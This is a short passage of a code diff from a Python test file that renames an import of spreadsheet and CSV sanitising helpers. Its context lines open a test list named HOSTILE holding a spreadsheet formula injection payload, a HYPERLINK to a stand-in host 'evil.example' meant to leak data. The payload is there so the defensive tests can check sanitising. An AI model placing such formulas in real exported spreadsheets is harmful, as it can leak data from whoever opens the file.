@@ -17,7 +17,7 @@ from openpyxl import Workbook, load_workbook
 
 from facts.cli import cli
 from facts.render.junit import _document
-from facts.safe import FORMULA_STARTS, csv_cell, formula_like, secure_workbook, terminal_text, xml_row, xml_text
+from facts.render.safe import FORMULA_STARTS, csv_cell, formula_like, secure_workbook, terminal_text, xml_row, xml_text
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak","Click for details")',
